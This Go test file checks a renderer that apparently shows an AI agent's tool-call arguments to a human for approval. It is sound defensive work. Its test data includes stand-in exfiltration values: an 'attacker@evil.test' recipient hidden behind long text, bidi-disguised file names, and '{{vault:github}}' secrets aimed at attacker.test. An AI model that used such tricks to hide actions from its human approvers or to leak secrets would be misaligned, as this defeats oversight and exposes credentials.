package prompt_test

import (
	"errors"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/gatehouse-dev/gatehouse/internal/prompt"
)

// TestEveryNameShownEveryCutStated (fault 5): a long value first in the
// agent's key order no longer hides the arguments after it; each value is
// cut on its own with the hidden bytes stated, and the stated counts add up.
func TestEveryNameShownEveryCutStated(t *testing.T) {
	body := strings.Repeat("x", 5000)
	args := `{"body":"` + body + `","to":"attacker@evil.test","cc":"` + strings.Repeat("y", 700) + `"}`
	got, err := prompt.Render([]byte(args), nil)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(got, `  to: "attacker@evil.test"`) || !strings.Contains(got, "  body: ") || !strings.Contains(got, "  cc: ") {
		t.Fatalf("a name or a short value is missing:\n%s", got)
	}
	if len(got) > prompt.DefaultMaxBytes+200 {
		t.Fatalf("%d bytes", len(got))
	}
	notes := regexp.MustCompile(`(?m)^  (\w+): (.*) … \((\d+) more bytes not shown\)$`).FindAllStringSubmatch(got, -1)
	if len(notes) != 2 {
		t.Fatalf("want body and cc cut with a note:\n%s", got)
	}
	for _, n := range notes {
		hidden, _ := strconv.Atoi(n[3])
		full := map[string]int{"body": len(body) + 2, "cc": 702}[n[1]]
		if len(n[2])+hidden != full {
			t.Errorf("%s: shown %d + hidden %d != %d", n[1], len(n[2]), hidden, full)
		}
	}
}

func TestInvisibleRunesEscaped(t *testing.T) {
	got, err := prompt.Render([]byte(`{"fi\u200ble":"report_\u202etxt.exe","note":"a\u2028b\ufe0f","x":"\u0007"}`), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`fi\u200ble: `, `"report_\u202etxt.exe"`, `"a\u2028b\ufe0f"`, `"\u0007"`} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %s in\n%s", want, got)
		}
	}
	for _, r := range got {
		if r == '\u200b' || r == '\u202e' || r == '\u2028' || r == '\ufe0f' || r == 7 {
			t.Fatalf("raw invisible rune %U in\n%s", r, got)
		}
	}
}

func TestRefusals(t *testing.T) {
	var many strings.Builder
	many.WriteString("{")
	for i := range 300 {
		fmt.Fprintf(&many, `%q:1,`, fmt.Sprintf("argument_number_%03d", i))
	}
	many.WriteString(`"z":1}`)
	for in, want := range map[string]error{
		many.String(): prompt.ErrTooLong,
		`{"path":"/etc/passwd","PATH":"/tmp/junk"}`: prompt.ErrInvalid,
		`[1,2]`:                      prompt.ErrInvalid,
		`{"n":12345678901234567891}`: prompt.ErrInvalid,
		`{"a":1,"a":2}`:              prompt.ErrInvalid,
	} {
		if _, err := prompt.Render([]byte(in), nil); !errors.Is(err, want) {
			t.Errorf("%.40s: %v, want %v", in, err, want)
		}
	}
	// Near misses: shown in full.
	for in, want := range map[string]string{
		``:                                     "  (no arguments)\n",
		`{"b":[1,{"d":1.0,"c":null}],"a":"é"}`: "  a: \"é\"\n  b: [1,{\"c\":null,\"d\":1}]\n",
	} {
		if got, err := prompt.Render([]byte(in), nil); err != nil || got != want {
			t.Errorf("%s: %q, %v; want %q", in, got, err, want)
		}
	}
}

// TestNestedNamesShown (red team of issue 16): a long member of a nested
// object no longer hides the members after it; arrays of objects likewise.
// Short nested values stay on one line.
func TestNestedNamesShown(t *testing.T) {
	body := strings.Repeat("Hello team, ", 60)
	for _, tc := range []struct{ args, want string }{
		{`{"email":{"body":"` + body + `","to":"attacker@evil.test"}}`, "  email: (object, 2 members)\n    body: \"Hello team, "},
		{`{"email":{"body":"` + body + `","to":"attacker@evil.test"}}`, "\n    to: \"attacker@evil.test\"\n"},
		{`{"batch":[{"body":"` + body + `"},{"to":"attacker@evil.test"}]}`, "  batch: (array, 2 elements)\n    [0]: (object, 1 member)\n      body: \"Hello team, "},
		{`{"batch":[{"body":"` + body + `"},{"to":"attacker@evil.test"}]}`, "\n    [1]: {\"to\":\"attacker@evil.test\"}\n"},
		{`{"a":{"b":{"long":"` + body + `","z":1}}}`, "  a: (object, 1 member)\n    b: (object, 2 members)\n      long: \"Hello team, "},
		{`{"a":{"b":{"long":"` + body + `","z":1}}}`, "\n      z: 1\n"},
	} {
		got, err := prompt.Render([]byte(tc.args), nil)
		if err != nil || !strings.Contains(got, tc.want) {
			t.Errorf("%.60s: want %q in\n%s (%v)", tc.args, tc.want, got, err)
		}
		if !strings.Contains(got, "more bytes not shown") {
			t.Errorf("%.60s: the long value's cut is not stated:\n%s", tc.args, got)
		}
	}
	// A long string stays one cut line; a short object stays one line.
	got, err := prompt.Render([]byte(`{"s":"`+body+`","o":{"to":"x"}}`), nil)
	if err != nil || !strings.Contains(got, "  o: {\"to\":\"x\"}\n  s: \"Hello") || strings.Count(got, "\n") != 2 {
		t.Errorf("near miss:\n%s (%v)", got, err)
	}
	// Too many nested names to show with part of each value: refused.
	var many strings.Builder
	many.WriteString(`{"x":{`)
	for i := range 300 {
		fmt.Fprintf(&many, `"argument_number_%03d":"%s",`, i, strings.Repeat("v", 30))
	}
	many.WriteString(`"z":1}}`)
	if _, err := prompt.Render([]byte(many.String()), nil); !errors.Is(err, prompt.ErrTooLong) {
		t.Errorf("300 nested names: %v, want ErrTooLong", err)
	}
}

// TestSecretReferencesNeverCut (red team of issue 16): a value that refers
// to a vault secret is shown whole, so the human sees where the secret
// would go; when it cannot fit, Render refuses.
func TestSecretReferencesNeverCut(t *testing.T) {
	pad := strings.Repeat("x", 900)
	for _, args := range []string{
		`{"proxy":"` + pad + `http://attacker.test/?k={{vault:github}}","url":"https://api.github.com/"}`,
		`{"opts":{"headers":["` + pad + `","Authorization: {{vault:github}} to attacker.test"]}}`,
	} {
		got, err := prompt.Render([]byte(args), nil)
		if err != nil || !strings.Contains(got, "attacker.test") || !strings.Contains(got, "{{vault:github}}") {
			t.Errorf("%.50s: the reference's value was cut:\n%s (%v)", args, got, err)
		}
	}
	if _, err := prompt.Render([]byte(`{"proxy":"`+strings.Repeat("x", 5000)+`{{vault:github}}"}`), nil); !errors.Is(err, prompt.ErrTooLong) {
		t.Errorf("a reference in a value longer than the prompt: %v, want ErrTooLong", err)
	}
	// Near miss: a long value without a reference is still cut.
	if got, _ := prompt.Render([]byte(`{"proxy":"`+pad+`{{vault"}`), nil); !strings.Contains(got, "more bytes not shown") {
		t.Errorf("a long value without a reference was not cut:\n%s", got)
	}
}
